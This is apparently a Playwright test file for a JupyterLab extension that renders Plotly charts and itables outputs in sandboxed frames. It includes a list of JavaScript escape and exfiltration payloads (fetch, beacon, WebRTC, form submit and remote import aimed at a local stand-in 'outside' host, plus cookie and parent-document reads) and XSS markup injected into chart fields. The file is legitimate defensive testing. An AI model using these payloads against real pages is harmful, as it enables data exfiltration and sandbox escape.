"""Interactive outputs in the real page: alive at public, asking no host, and held when a library turns hostile.

The hostile library is what the browser gets in the place of Plotly's, with the policy of its own hash, as if the
package in the kernels' environment had been replaced: the attack of a malicious package.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Frame, Page, Route, expect, sync_playwright
from playwright.sync_api import Error as PlaywrightError
from strongroom_lab import frames, interactive

from tests.extension.conftest import FREE, GUARDED, Lab, own, running_lab
from tests.extension.test_interactive import ITABLES_HTML

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

CHROMIUM = "/usr/bin/chromium"
SLOW = 60_000
expect.set_options(timeout=SLOW)  # on a busy machine five seconds are soon over
PLOTLY = "application/vnd.plotly.v1+json"
TABLE = "application/vnd.strongroom.table+json"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        # Chromium itself keeps a document without an address of its own from hosts on loopback, where the test's stand.
        args = ["--no-sandbox", "--disable-gpu", "--disable-features=LocalNetworkAccessChecks"]
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=args)
        yield chromium
        chromium.close()


@dataclass
class Window:
    """A page of one server, and what it asked and said."""

    lab: Lab
    page: Page
    asked: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    answered: bool = False

    def follow(self) -> None:
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: message.type == "error" and self.said.append(message.text))
        self.page.on("websocket", lambda socket: socket.on("framereceived", self._received))
        self.page.on("pageerror", lambda error: self.said.append(f"uncaught: {error}"))

    def _received(self, frame: str | bytes) -> None:
        # Lab drops what is run before the kernel has answered its last question of the start.
        self.answered = self.answered or b"comm_info_reply" in (frame if isinstance(frame, bytes) else frame.encode())

    def ready(self) -> None:
        """Return when the kernel's socket is up."""
        deadline = time.monotonic() + SLOW / 1000
        while not self.answered:
            assert time.monotonic() < deadline, "the kernel does not answer"
            self.page.wait_for_timeout(50)

    def open(self, name: str) -> None:
        self.page.goto(f"{self.lab.url}lab/tree/{name}?reset&token={self.lab.token}")
        self.page.wait_for_selector(".jp-NotebookPanel .jp-Cell", timeout=SLOW)

    def run(self, number: int) -> None:
        cell = self.page.locator(".jp-NotebookPanel .jp-CodeCell").nth(number)
        cell.locator(".cm-content").click()
        self.page.keyboard.press("Shift+Enter")
        expect(cell.locator(".jp-InputPrompt")).to_have_text(re.compile(r"\[\d+\]:"), timeout=SLOW)

    def frame(self, number: int = 0) -> Frame:
        element = self.page.locator(".sr-Frame iframe").nth(number).element_handle(timeout=SLOW)
        found = element.content_frame()
        assert found is not None
        return found

    @property
    def foreign(self) -> list[str]:
        return [url for url in self.asked if not url.startswith((self.lab.url, "data:", "blob:", "ws:", "about:"))]


@contextlib.contextmanager
def window(browser: Browser, lab: Lab, *, dark: bool = False) -> Iterator[Window]:
    context = browser.new_context(viewport={"width": 1300, "height": 900}, color_scheme="dark" if dark else "light")
    found = Window(lab, context.new_page())
    found.follow()
    try:
        yield found
    finally:
        context.close()


def notebook(lab: Lab, name: str, *codes: str, outputs: list[dict[str, Any]] | None = None) -> None:
    cells = [
        {
            "cell_type": "code",
            "id": f"c{number}",
            "metadata": {},
            "source": code,
            "execution_count": None,
            "outputs": outputs or [],
        }
        for number, code in enumerate(codes)
    ]
    spec = {"name": "strongroom", "display_name": "Strongroom", "language": "python"}
    body = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": spec}, "cells": cells}
    file = lab.notebooks / name
    file.write_text(json.dumps(body))
    own(file)


def picture(page: Page, name: str) -> None:
    folder = os.environ.get("STRONGROOM_SCREENSHOTS")
    if folder:
        page.screenshot(path=Path(folder) / f"{name}.png")


FIGURE = (
    "import plotly.express as px\n"
    "px.scatter(x=list(range(2000)), y=[v * v % 97 for v in range(2000)], title='Many points').show()"
)
BARS = {"data": [{"type": "bar", "x": ["a", "b"], "y": [1, 3]}], "layout": {"title": {"text": "Bars"}}}
TABLES = (
    "import pandas as pd, itables\n"
    "itables.show(pd.DataFrame({'name': [f'row {n}' for n in range(60)], 'value': [n * 0.5 for n in range(60)]}))"
)


@pytest.fixture(scope="module")
def frames_lab(kernel_prefix: str) -> Iterator[Lab]:
    """A server at public for this module; tests here must not raise its label."""
    with running_lab(kernel_prefix, "public", FREE) as lab:
        yield lab


def saved(mime: str, data: Any, **more: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": {mime: data, **more}}


def test_figures_and_tables_are_alive_at_public(browser: Browser, frames_lab: Lab) -> None:
    notebook(frames_lab, "alive.ipynb", FIGURE, TABLES)
    with window(browser, frames_lab) as shown:
        shown.open("alive.ipynb")
        shown.ready()
        shown.run(0)
        shown.run(1)
        figure, table = shown.frame(0), shown.frame(1)
        figure.wait_for_selector(".plot-container .xtick", timeout=SLOW)
        table.wait_for_selector("table tbody tr", timeout=SLOW)
        # A figure answers the mouse: what is under it, and a part of it when it is dragged over.
        plot = figure.locator(".nsewdrag").first
        before = figure.locator(".xtick").all_text_contents()
        box = plot.bounding_box()
        assert box is not None
        at = (box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        shown.page.mouse.move(*at)
        expect(figure.locator(".hoverlayer .hovertext").first).to_be_visible(timeout=SLOW)
        picture(shown.page, "frames-light")
        shown.page.mouse.down()
        shown.page.mouse.move(at[0] + 150, at[1] + 80, steps=5)
        shown.page.mouse.up()
        expect(figure.locator(".xtick").first).not_to_have_text(before[0], timeout=SLOW)
        # A table turns its pages, sorts by number and searches.
        order = table.locator("th", has_text="value").locator(".dt-column-order")
        order.click()
        order.click()
        expect(table.locator("tbody tr").first).to_contain_text("row 59", timeout=SLOW)
        table.locator("input[type=search]").fill("row 59")
        expect(table.locator("tbody tr")).to_have_count(1)
        heights = [int(frame.get_attribute("height") or 0) for frame in shown.page.locator(".sr-Frame iframe").all()]
        assert heights[0] == 450
        assert 100 < heights[1] < 700
        assert shown.foreign == []
        assert shown.said == []


def test_a_saved_notebook_shows_them_without_a_run_and_in_the_dark(browser: Browser, frames_lab: Lab) -> None:
    table = interactive.rebuilt(ITABLES_HTML)
    kept = [saved(PLOTLY, BARS), saved(TABLE, table[TABLE], **{"text/html": table["text/html"]})]
    notebook(frames_lab, "saved.ipynb", "pass", outputs=kept)
    with window(browser, frames_lab, dark=True) as shown:
        theme = {"raw": json.dumps({"theme": "JupyterLab Dark"})}
        frames_lab.call("PUT", "lab/api/settings/@jupyterlab/apputils-extension:themes", json=theme)
        try:
            shown.open("saved.ipynb")
            shown.frame(0).wait_for_selector(".plot-container .bars .point", timeout=SLOW)
            row = shown.frame(1).locator("tbody tr").first
            expect(row).to_contain_text("first", timeout=SLOW)
            expect(shown.frame(1).locator("html")).to_have_class("dark")
            picture(shown.page, "frames-dark")
        finally:
            frames_lab.call("PUT", "lab/api/settings/@jupyterlab/apputils-extension:themes", json={"raw": "{}"})
        assert shown.foreign == []


# --- attacks ------------------------------------------------------------------------------------------------------


@dataclass
class Outside:
    """A host that a frame must not reach: everything that comes here, by TCP or UDP."""

    port: int
    heard: list[bytes]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def outside() -> Iterator[Outside]:
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        port = tcp.getsockname()[1]
        udp.bind(("127.0.0.1", port))

        def listen() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = tcp.accept()
                    threading.Thread(target=answer, args=(connection,), daemon=True).start()

        def answer(connection: socket.socket) -> None:
            with contextlib.suppress(OSError), connection:
                connection.settimeout(20)
                heard.append(connection.recv(2000))
                connection.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")

        def receive() -> None:
            with contextlib.suppress(OSError):
                while True:
                    heard.append(udp.recv(2000))

        for target in (listen, receive):
            threading.Thread(target=target, daemon=True).start()
        yield Outside(port, heard)
        for opened in (tcp, udp):
            with contextlib.suppress(OSError):
                opened.shutdown(socket.SHUT_RDWR)


GUARD, DRAW = (Path(frames.__file__).with_name(name).read_text(encoding="utf-8") for name in ("guard.js", "plotly.js"))
HOSTILE = """
window.Plotly = { newPlot: async (place, { data }) => {
  const { name, code, outside, own } = JSON.parse(atob(data[0].attack));
  window.result = 'began';
  const Attack = (async () => {}).constructor;
  try { window.result = String(await new Attack('place', 'outside', 'own', code)(place, outside, own)); }
  catch (error) { window.result = `held: ${error}`; }
} };
"""
ATTACKS = {
    "fetch": "await fetch(outside + '/fetch', { mode: 'no-cors' }); return 'open'",
    "fetch from the own server": "await fetch(own + 'api/status', { mode: 'no-cors' }); return 'open'",
    "websocket": "return new Promise(done => { const s = new WebSocket(outside.replace('http', 'ws'));"
    " s.onopen = () => done('open'); s.onerror = () => done('held'); })",
    "picture": "return new Promise(done => { const i = new Image(); i.onload = () => done('open');"
    " i.onerror = () => done('held'); i.src = outside + '/picture'; })",
    "beacon": "navigator.sendBeacon(outside + '/beacon', 'x'); return 'sent'",
    "style sheet": "const s = document.createElement('style'); document.head.append(s);"
    " s.textContent = `@import url(${outside}/style); body { background: url(${outside}/background) }`; return 'sent'",
    "links": "for (const rel of ['stylesheet', 'prefetch', 'modulepreload', 'manifest', 'icon']) {"
    " const l = document.createElement('link'); l.rel = rel; l.href = outside + '/' + rel; document.head.append(l); }"
    " return 'sent'",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent ="
    " JSON.stringify({ prefetch: [{ urls: [outside + '/spec'], eagerness: 'immediate' }] }); document.head.append(s);"
    " return 'sent'",
    "going elsewhere": "location = outside + '/elsewhere'; return 'sent'",
    "going to the own server": "location = own + 'api/status'; return 'sent'",
    "going nowhere": "location = URL.createObjectURL(new Blob(['<script>top.postMessage(1)</' + 'script>'],"
    " { type: 'text/html' })); return 'sent'",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${outside}/meta`;"
    " document.head.append(m); return 'sent'",
    "the whole page": "top.location = outside + '/top'; return 'open'",
    "the page's document": "return 'open ' + parent.document.title",
    "cookies": "return 'open ' + document.cookie",
    "storage": "return 'open ' + localStorage.length",
    "database": "indexedDB.open('x'); return 'open'",
    "service worker": "await navigator.serviceWorker.register(own + 'sw.js'); return 'open'",
    "worker": "return new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));"
    " w.onmessage = () => done('open'); w.onerror = () => done('held'); })",
    "window": "return window.open(outside + '/window') === null ? 'held' : 'open'",
    "form": "const f = document.createElement('form'); f.action = outside + '/form'; document.body.append(f);"
    " f.submit(); return 'sent'",
    "WebRTC": "const Connection = window.RTCPeerConnection ?? window.webkitRTCPeerConnection; const c = new"
    " Connection({ iceServers: [{ urls: 'stun:' + new URL(outside).host }] }); c.createDataChannel('x');"
    " await c.setLocalDescription(await c.createOffer()); return 'open'",
    "WebRTC of a frame in the frame": "const f = document.createElement('iframe'); document.body.append(f);"
    " return 'open ' + typeof f.contentWindow.RTCPeerConnection",
    "scripts of a frame in the frame": "return new Promise(done => { onmessage = e => e.data === 'ran' && done('open');"
    " const f = document.createElement('iframe'); f.srcdoc = '<script>parent.postMessage(\"ran\", \"*\")</' + 'script>"
    '<body onload=parent.postMessage("ran","*")>\'; document.body.append(f); const g ='
    " document.createElement('iframe'); g.src = 'javascript:parent.postMessage(\"ran\", \"*\")';"
    " document.body.append(g); setTimeout(() => done('held'), 1000); })",
    "further scripts": "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    " document.body.append(s); return window.ran ? 'open' : 'held'",
    "code from elsewhere": "await import(outside + '/code.js'); return 'open'",
    "WebTransport": "await new WebTransport(outside.replace('http', 'https')).ready; return 'open'",
    "where it came from": "return document.referrer || location.search || location.hash ? 'open' : 'held'",
    "download": "const a = document.createElement('a'); a.download = 'x'; a.href = 'data:text/plain,x';"
    " document.body.append(a); a.click(); return 'sent'",
    "dialog": "alert('x'); return 'sent'",
    "height": "parent.postMessage({ strongroom: 'height', height: 1e9 }, '*'); return 'sent'",
    "flood": "for (let n = 0; n < 500; n += 1) parent.postMessage({ strongroom: 'height', height: 50 + n % 9 }, '*');"
    " return 'sent'",
}


def with_another_library(lab: Lab) -> Callable[[Route], None]:
    """Answers as the server would if the library in the kernels' environment were `HOSTILE`."""
    real = lab.call("GET", "strongroom/frames/plotly")
    script = f"{GUARD}\n{HOSTILE}\n{DRAW}"
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    policy = re.sub(r"'sha256-[^']*'", f"'sha256-{digest}'", real.headers["content-security-policy"])
    headers = {"content-type": real.headers["content-type"], "content-security-policy": policy}
    body = f"{real.text.split('<script>')[0]}<script>{script}</script></body></html>"
    return lambda route: route.fulfill(status=200, headers=headers, body=body)


RESULT = "() => document.URL.startsWith('chrome-error:') ? 'held: refused' : String(window.result ?? 'None')"


def result(shown: Window, number: int) -> str:
    """What became of an attack: the frame's own word, or what stands in its place."""
    place = shown.page.locator(".sr-Frame").nth(number)
    if place.locator("iframe").count() == 0:
        return place.inner_text()
    try:
        return str(shown.frame(number).evaluate(RESULT))
    except PlaywrightError as error:
        return f"held: {error}"


def test_a_hostile_library_reaches_nothing(browser: Browser, frames_lab: Lab, outside: Outside) -> None:
    attacks = [
        base64.b64encode(
            json.dumps({"name": name, "code": code, "outside": outside.url, "own": frames_lab.url}).encode()
        ).decode()
        for name, code in ATTACKS.items()
    ]
    outputs = [saved(PLOTLY, {"data": [{"attack": attack}], "layout": {"height": 60}}) for attack in attacks]
    notebook(frames_lab, "hostile.ipynb", "pass", outputs=outputs)
    with window(browser, frames_lab) as shown:
        opened: list[str] = []
        shown.page.on("popup", lambda _: opened.append("window"))
        shown.page.on("download", lambda _: opened.append("download"))
        shown.page.on("dialog", lambda dialog: (opened.append("dialog"), dialog.dismiss()))
        shown.page.route("**/strongroom/frames/plotly", with_another_library(frames_lab))
        shown.open("hostile.ipynb")
        address, title = shown.page.url, shown.page.title()
        deadline = time.monotonic() + 2 * SLOW / 1000
        while True:
            results = {name: result(shown, number) for number, name in enumerate(ATTACKS)}
            if time.monotonic() > deadline or not {"", "None", "began"} & set(results.values()):
                break
            shown.page.wait_for_timeout(200)
        held = ("held", "sent", "This output")
        assert {name: said for name, said in results.items() if not said.startswith(held)} == {}
        assert "was stopped" in results["flood"]
        number = list(ATTACKS).index("height")
        assert int(shown.page.locator(".sr-Frame").nth(number).locator("iframe").get_attribute("height") or 0) <= 4000
        # Connections may be begun for an address that a policy then refuses; not a byte goes over them.
        assert [heard for heard in outside.heard if heard] == []
        asked = [url for url in shown.foreign if not url.startswith(outside.url)]
        assert asked == []
        assert opened == []
        assert (shown.page.url, shown.page.title()) == (address, title)


def test_hostile_data_is_only_data(browser: Browser, frames_lab: Lab, outside: Outside) -> None:
    """To the libraries as they are: markup, addresses and code where words and numbers should be."""
    link = f"<link rel=preconnect href='{outside.url}'><a href='{outside.url}'>x"
    bad = f"<iframe src='{outside.url}/frame'></iframe>{link}"
    figure = {
        "data": [{"type": "bar", "x": [bad, "b"], "y": [1, 3], "hovertemplate": bad, "text": bad}],
        "layout": {
            "title": {"text": f"{bad}kept"},
            "images": [{"source": f"{outside.url}/image", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
            "annotations": [{"text": bad, "x": 0, "y": 1}],
        },
        "config": {"plotlyServerURL": outside.url, "topojsonURL": outside.url, "locale": bad},
    }
    script = "<img src=x onerror='window.ran = 1'>"
    source = ITABLES_HTML.replace("first", f"first {bad} {script}")
    source = source.replace('"order": []', f'"order": [], "ajax": "{outside.url}/ajax"')
    rebuilt = interactive.rebuilt(source)
    assert "ajax" not in rebuilt[TABLE]
    given = {**rebuilt[TABLE], "ajax": f"{outside.url}/ajax", "caption": bad + script}
    notebook(frames_lab, "data.ipynb", "pass", outputs=[saved(PLOTLY, figure), saved(TABLE, given)])
    with window(browser, frames_lab) as shown:
        shown.open("data.ipynb")
        shown.frame(0).wait_for_selector(".plot-container .bars .point", timeout=SLOW)
        expect(shown.frame(0).locator(".gtitle")).to_contain_text("kept")
        expect(shown.frame(1).locator("table").first).to_be_visible(timeout=SLOW)
        shown.page.wait_for_timeout(500)
        for frame in (shown.frame(0), shown.frame(1)):
            assert frame.evaluate("() => window.ran") is None
            assert frame.locator("iframe, link, a[href^=http], img").count() == 0
        assert outside.heard == []


def test_the_page_lets_frames_go_to_their_documents_alone(frames_lab: Lab) -> None:
    policy = frames_lab.call("GET", "lab").headers["content-security-policy"]
    assert f"frame-src 127.0.0.1:{frames_lab.port}/strongroom/frames/;" in policy
    other = httpx.get(f"{frames_lab.url}lab?token={frames_lab.token}", headers={"Host": "evil_example"})
    assert "frame-src 'none'" in other.headers["content-security-policy"]
    assert "evil" not in other.headers["content-security-policy"]
    assert "frame-src 'none'" in frames_lab.call("GET", "api/status").headers["content-security-policy"]


def test_documents_are_for_those_who_are_logged_in(frames_lab: Lab) -> None:
    for kind in frames.LIBRARIES:
        assert httpx.get(f"{frames_lab.url}strongroom/frames/{kind}").status_code == 403
        found = frames_lab.call("GET", f"strongroom/frames/{kind}")
        assert found.status_code == 200
        assert found.headers["content-security-policy"].startswith("sandbox allow-scripts; default-src 'none'")
        again = httpx.get(
            f"{frames_lab.url}strongroom/frames/{kind}",
            headers={"Authorization": f"token {frames_lab.token}", "If-None-Match": found.headers["etag"]},
        )
        assert again.status_code == 304
    assert frames_lab.call("GET", "strongroom/frames/other").status_code == 404


def test_frames_go_when_the_label_rises(browser: Browser, fresh_lab: Lab) -> None:
    table = interactive.rebuilt(ITABLES_HTML)
    kept = [saved(PLOTLY, BARS), saved(TABLE, table[TABLE], **{"text/html": table["text/html"]})]
    notebook(fresh_lab, "rises.ipynb", "pass", outputs=kept)
    with window(browser, fresh_lab) as shown:
        shown.open("rises.ipynb")
        shown.frame(0).wait_for_selector(".plot-container .bars .point", timeout=SLOW)
        fresh_lab.control.label, fresh_lab.control.display = "confidential", dict(GUARDED)
        fresh_lab.call("GET", "strongroom/api/session")
        expect(shown.page.locator(".sr-Frame iframe")).to_have_count(0, timeout=SLOW)
        expect(shown.page.locator(".sr-Frame").first).to_contain_text("not shown at label confidential")
        expect(shown.page.locator(".sr-Frame table")).to_contain_text("first")
        picture(shown.page, "frames-above")
    for kind in frames.LIBRARIES:
        said = fresh_lab.call("GET", f"strongroom/frames/{kind}")
        assert "label public alone" in said.text
        assert "<script" not in said.text
        assert "script-src" not in said.headers["content-security-policy"]
